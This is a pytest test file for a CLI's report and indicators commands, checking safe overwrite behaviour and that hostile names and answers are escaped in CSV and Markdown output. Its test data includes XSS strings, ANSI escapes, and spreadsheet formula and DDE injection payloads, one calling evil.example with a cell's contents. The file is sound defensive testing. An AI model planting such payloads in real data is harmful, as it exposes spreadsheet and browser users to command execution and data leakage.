"""`samverkan report` and `samverkan indicators` as a coordinator runs them, on the two-cycle
network of test_indicators."""

from __future__ import annotations

import hashlib
import html
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from flows.cli import app

runner = CliRunner()


def invoke(*args: str):  # type: ignore[no-untyped-def]
    return runner.invoke(app, list(args))


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_report_out_refuses_to_overwrite_the_database(settings, engine, two_cycles) -> None:
    if not settings.database_url.startswith("sqlite:///"):
        pytest.skip("the database is a file only with SQLite")
    _, c2 = two_cycles
    engine.dispose()
    db = Path(settings.database_url.removeprefix("sqlite:///"))
    before = digest(db)
    result = invoke("report", str(c2), "--out", str(db))
    assert result.exit_code == 2
    assert result.output == (
        f"error: {db} exists and is not a report samverkan wrote; not overwritten "
        "(use --force to overwrite it)\n"
    )
    assert digest(db) == before
    assert invoke("cycle", "list").exit_code == 0  # the store still opens


def test_report_out_refuses_any_other_file_but_overwrites_with_force(
    settings, engine, two_cycles, tmp_path: Path
) -> None:
    _, c2 = two_cycles
    notes = tmp_path / "notes.html"
    notes.write_text("<!DOCTYPE html><p>my own notes</p>", encoding="utf-8")
    result = invoke("report", str(c2), "--out", str(notes))
    assert result.exit_code == 2 and result.output.startswith("error: ")
    assert len(result.output.splitlines()) == 1
    assert notes.read_text(encoding="utf-8") == "<!DOCTYPE html><p>my own notes</p>"
    result = invoke("report", str(c2), "--out", str(notes), "--force")
    assert (result.exit_code, result.output) == (0, f"wrote {notes}\n")
    assert "<h1>Reflektion: Cycle 2</h1>" in notes.read_text(encoding="utf-8")


@pytest.mark.parametrize("fmt", ["html", "md"])
def test_report_out_overwrites_an_earlier_report(
    settings, engine, two_cycles, tmp_path: Path, fmt: str
) -> None:
    c1, c2 = two_cycles
    out = tmp_path / f"reflection.{fmt}"
    assert invoke("report", str(c1), "--format", fmt, "--out", str(out)).exit_code == 0
    assert "Cycle 1" in out.read_text(encoding="utf-8")
    result = invoke("report", str(c2), "--format", fmt, "--out", str(out))
    assert (result.exit_code, result.output) == (0, f"wrote {out}\n")
    text = out.read_text(encoding="utf-8")
    heading = {"html": "<h1>Reflektion: Cycle 2</h1>", "md": "# Reflektion: Cycle 2\n"}[fmt]
    assert heading in text and "Reflektion: Cycle 1" not in text


# Hostile input: what participants type and what organisations and cycles are called ------

HOSTILE_WORDS = [
    "<img src=x onerror=alert(1)> <b>bold</b> &amp;",
    "\x1b[2J\x1b[31mred\x1b[0m and a bell\x07 and \x9b31m",
    "# not a heading",
    "- not a list",
    "1. not a list either",
    "> not a quote",
    "[click](javascript:alert(1)) ![x](http://evil.example/t.png) **loud** `code` _it_ ~~s~~",
    "a | b \\| c\nsecond line",
    "\u202eevil\u202c",
]
HOSTILE_ORG = '=HYPERLINK("http://evil.example/?"&A1,"<i>click</i>")'
HOSTILE_CYCLE = "+cmd|' /C calc'!A0 <script>alert(1)</script>"


@pytest.fixture
def hostile(engine):  # type: ignore[no-untyped-def]
    """Two cycles of a network whose names and words are hostile, every group large enough."""
    from datetime import UTC, datetime

    from sqlmodel import Session

    from store.models import Organisation, Participant
    from tests.conftest import answered, asked, followup_ran

    names = [HOSTILE_ORG, "@SUM(1+1)", "\t=1+1", "-2+3", "\r=1", "Plain"]
    with Session(engine) as s:
        orgs = [Organisation(name=n) for n in names]
        s.add_all(orgs)
        s.flush()
        people = [
            Participant(
                name=f"p{i}",
                email=f"p{i}@x.example",
                email_key=f"p{i}@x.example",
                organisation_id=orgs[i // 3].id,
                role="professional",
                language="sv",
            )
            for i in range(3 * len(orgs))
        ]
        s.add_all(people)
        s.flush()
        ids = []
        for n, (name, score) in enumerate(((HOSTILE_CYCLE, 8), ("=1+2", 5))):
            start = datetime(2027, 1 + 5 * n, 1, tzinfo=UTC)
            stage = followup_ran(s, name, start, timezone="UTC")
            for i, p in enumerate(people):
                asked(s, stage, p)
                answered(s, stage, p, "scale-now", scale=score)
                if i < len(HOSTILE_WORDS):
                    answered(s, stage, p, "what-works", text=HOSTILE_WORDS[i])
            ids.append(stage.cycle_id)
        s.commit()
    return ids


def test_the_indicators_csv_holds_no_spreadsheet_formula(settings, hostile) -> None:
    import csv
    import io

    result = invoke("indicators", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output)))
    assert rows
    for row in rows:
        for column, cell in row.items():
            if column in ("value", "n"):
                assert cell == "" or float(cell) == float(cell)  # a number, never text
            else:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, cell)
    organisations = {r["organisation"] for r in rows}
    assert "'" + HOSTILE_ORG in organisations
    assert {"'@SUM(1+1)", "'\t=1+1", "'-2+3", "'\r=1", "Plain", "*"} <= organisations
    assert {r["cycle_name"] for r in rows} == {"'" + HOSTILE_CYCLE, "'=1+2"}
    # Numbers stay numbers: the fall from 8 to 5 is a negative change, not a quoted text.
    changes = {r["value"] for r in rows if r["indicator"] == "scale_change"}
    assert changes == {"-3.0"}
    # The JSON export is data, not a spreadsheet: the names as they are.
    data = invoke("indicators", "--format", "json").output
    import json

    assert HOSTILE_ORG in {r["organisation"] for r in json.loads(data)}


def test_the_markdown_report_shows_hostile_words_as_plain_text(settings, hostile) -> None:
    from markdown_it import MarkdownIt

    result = invoke("report", str(hostile[0]), "--format", "md")
    assert result.exit_code == 0, result.output
    page = result.output
    assert not [c for c in page if (ord(c) < 32 and c != "\n") or 0x7F <= ord(c) < 0xA0]
    assert "\u202e" not in page
    rendered = MarkdownIt("commonmark").enable("table").render(page)
    # Only the report's own structure is rendered; the participants' words make none.
    tags = set(re.findall(r"<([a-z0-9]+)[ >]", rendered))
    assert tags <= {
        "h1",
        "h2",
        "h3",
        "p",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "em",
        "blockquote",
        "ul",
        "li",
    }, tags
    assert rendered.count("<blockquote>") == len(HOSTILE_WORDS)
    quotes = re.findall(r"<blockquote>\s*<p>(.*?)</p>\s*</blockquote>", rendered, re.S)
    shown = {html.unescape(q) for q in quotes}
    assert "<img src=x onerror=alert(1)> <b>bold</b> &amp;" in shown
    assert "[2J[31mred[0m and a bell and 31m" in shown  # the escape codes gone, the text left
    assert "# not a heading" in shown and "- not a list" in shown
    assert "1. not a list either" in shown and "> not a quote" in shown
    assert "a | b \\| c second line" in shown
    assert (
        "[click](javascript:alert(1)) ![x](http://evil.example/t.png) **loud** `code` _it_ ~~s~~"
        in shown
    )
    # The cycle's and the organisations' names are text too.
    text = html.unescape(rendered)
    assert f"<h1>Reflektion: {HOSTILE_CYCLE}</h1>" in text
    assert f"<tr>\n<td>{HOSTILE_ORG}</td>" in text
    assert "<td>=1+1</td>" in text and "<td>@SUM(1+1)</td>" in text
